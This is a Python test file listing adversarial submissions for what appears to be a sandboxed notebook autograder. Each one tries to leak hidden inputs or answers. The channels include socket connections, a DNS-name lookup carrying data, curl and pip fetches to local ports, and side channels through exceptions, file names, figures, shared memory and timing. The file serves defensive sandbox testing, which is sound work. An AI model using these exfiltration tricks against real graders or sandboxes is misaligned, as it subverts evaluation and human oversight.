"""Submissions that try to carry data out: over a network, in an output, or by timing."""

from __future__ import annotations

from functools import partial

from tests.attacks.attack import Attack, cell, instead, kernel

leak = partial(cell, "leaks")
tell = partial(kernel, "leaks")
"""Code that reveals the arguments of a call in some way that might reach the feedback."""

plot = partial(instead, "leaks", cell="p3-plot-answer", unsolved=["p3-plot"])

ATTACKS: tuple[Attack, ...] = (
    leak(
        "calls-home",
        "A connection over TCP, which an open network would carry anywhere.",
        """
        import socket
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                with socket.socket(family) as wire:
                    wire.settimeout(1)
                    wire.connect((host, @tcp@))
                    wire.sendall(b"answers")
                print("SENT")
            except OSError as error:
                print(type(error).__name__)
        """,
    ),
    leak(
        "sends-datagrams",
        "Datagrams, which need nobody's consent.",
        """
        import socket
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
                wire.sendto(b"answers", ("127.0.0.1", @udp@))
            print("SENT")
        except OSError as error:
            print(type(error).__name__)
        """,
    ),
    leak(
        "asks-for-a-name",
        "A question to a name server that carries the answer in the name.",
        """
        import ctypes, socket
        try:
            print(socket.getaddrinfo("secret.example.org", 80))
        except OSError as error:
            print(type(error).__name__)
        print(ctypes.CDLL(None).gethostbyname(b"secret.example.org"))
        """,
    ),
    leak(
        "local-sockets",
        "A socket in the file system, and one without a place in it.",
        """
        import socket
        for address in ("@unix@", "\\0@abstract@"):
            try:
                with socket.socket(socket.AF_UNIX) as wire:
                    wire.connect(address)
                print("SENT")
            except OSError as error:
                print(type(error).__name__)
        """,
    ),
    leak(
        "web-libraries",
        "Through libraries that fetch pages, with and without a proxy.",
        """
        import os, urllib.request
        os.environ["http_proxy"] = "http://127.0.0.1:@tcp@"
        for address in ("http://127.0.0.1:@tcp@/answers", "http://example.org/answers"):
            try:
                print(urllib.request.urlopen(address, timeout=1).read())
            except OSError as error:
                print(type(error).__name__)
        """,
    ),
    leak(
        "other-families",
        "Kinds of sockets that are seldom thought of.",
        """
        import socket
        for family in (socket.AF_NETLINK, socket.AF_PACKET, 40, 38, 31, 44):
            for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM, 5):
                try:
                    socket.socket(family, kind).close()
                    print("MADE", family, kind)
                except OSError as error:
                    print(type(error).__name__)
        """,
    ),
    leak(
        "installs-a-package",
        "pip is asked to fetch something, as a magic and as a command.",
        """
        %pip install -i http://127.0.0.1:@tcp@/simple leaked
        !curl -s http://127.0.0.1:@tcp@/answers
        """,
    ),
    tell(
        "prints-its-inputs",
        "Hidden inputs are printed, on every way to an output that there is.",
        """
        import logging, os, sys, warnings
        from IPython.display import display

        def empirical_ntk(v, W, X, n):
            text = f"{v.tolist()} {W.tolist()} {X.tolist()}"
            print(text)
            print(text, file=sys.stderr)
            display(text)
            warnings.warn(text)
            logging.error(text)
            for number in (1, 2):
                os.write(number, text.encode())
            return np.zeros((len(X), len(X)))
        """,
    ),
    tell(
        "raises-its-inputs",
        "An exception whose text, notes, cause and type are made of hidden inputs.",
        """
        def empirical_ntk(v, W, X, n):
            text = repr(X.tolist())
            error = type(text, (Exception,), {"__module__": text, "__qualname__": text})(text)
            error.add_note(text)
            raise error from KeyError(text)
        """,
    ),
    tell(
        "names-an-error-by-digits",
        "The name of the exception's type is a plain name that spells a hidden input.",
        """
        def empirical_ntk(v, W, X, n):
            digits = repr(float(abs(v[0]))).replace(".", "").replace("e-", "")
            raise type("Error" + digits.translate(str.maketrans("0123456789", "abcdefghij")),
                       (Exception,), {"__str__": lambda self: repr(v[0])})
        """,
    ),
    tell(
        "writes-its-own-line",
        "The line of the error is taken from code that was made of hidden inputs.",
        """
        import linecache

        def empirical_ntk(v, W, X, n):
            text = f"raise ValueError({v.tolist()})"
            linecache.cache["<answer>"] = (len(text), None, [text], "<answer>")
            exec(compile(text, "<answer>", "exec"))
        """,
    ),
    tell(
        "changes-its-own-source",
        "The notebook's own cell is given another text before the error is told.",
        """
        import linecache

        def empirical_ntk(v, W, X, n):
            name = empirical_ntk.__code__.co_filename
            lines = [f"# {v.tolist()} {X.tolist()}\\n"] * 40
            linecache.cache[name] = (1, None, lines, name)
            get_ipython().history_manager.input_hist_raw[:] = ["".join(lines)] * 99
            raise ValueError
        """,
    ),
    tell(
        "a-syntax-error-of-inputs",
        "A syntax error brings its own text along.",
        """
        def empirical_ntk(v, W, X, n):
            text = repr(v.tolist())
            raise SyntaxError(text, (text, 1, 1, text))
        """,
    ),
    tell(
        "shapes-its-answer",
        "The shape of the answer spells a hidden input, and its shape may be told.",
        """
        def empirical_ntk(v, W, X, n):
            digits = repr(float(abs(v[0]))).replace(".", "")[:7]
            return np.zeros([int(digit) + 1 for digit in digits])
        """,
    ),
    tell(
        "names-files",
        "Files are named after hidden inputs, wherever one can be made.",
        """
        def empirical_ntk(v, W, X, n):
            for folder in (".", "..", "/tmp", "/dev/shm", "@course@/submitted"):
                try:
                    open(f"{folder}/{v[0]!r}", "w").close()
                except OSError:
                    pass
            return np.zeros((len(X), len(X)))
        """,
    ),
    tell(
        "keeps-its-inputs-for-the-notebook",
        "Hidden inputs are kept in files and in memory, for a thread of the notebook to print.",
        """
        import mmap, os, threading, time
        room = mmap.mmap(-1, 65536)

        def wait():
            while True:
                time.sleep(0.05)
                for text in (bytes(room).rstrip(b"\\0"), *map(os.fsencode, os.listdir("."))):
                    print(text)

        threading.Thread(target=wait, daemon=True).start()

        def empirical_ntk(v, W, X, n):
            text = repr(v.tolist()).encode()[:60_000]
            room[: len(text)] = text
            with open("found.txt", "ab") as file:
                file.write(text)
            return np.zeros((len(X), len(X)))
        """,
    ),
    plot(
        name="writes-into-its-figure",
        idea="Hidden inputs stand in every text of the figure, of which some are told.",
        code="""
        def plot_convergence(widths, errors):
            text = repr(np.asarray(errors).tolist())
            figure, axes = plt.subplots(num=text[:50])
            axes.plot([1, 2], [1, 2], label=text, gid=text, url=text)
            axes.set(xlabel=text, ylabel=text, title=text)
            axes.text(0, 0, text)
            axes.legend(title=text)
            figure.suptitle(text)
            figure.savefig("out.png", metadata={"Title": text})
            return figure
        """,
    ),
    tell(
        "takes-its-time",
        "The time of a call stands for a hidden input, and the next call looks at the clock.",
        """
        import os, time

        def empirical_ntk(v, W, X, n):
            stamp = os.stat(".").st_mtime_ns, time.monotonic_ns()
            time.sleep(0.3 * float(abs(v[0]) > 1))
            print(stamp)
            return np.full((len(X), len(X)), float(stamp[1] % 7))
        """,
    ),
)
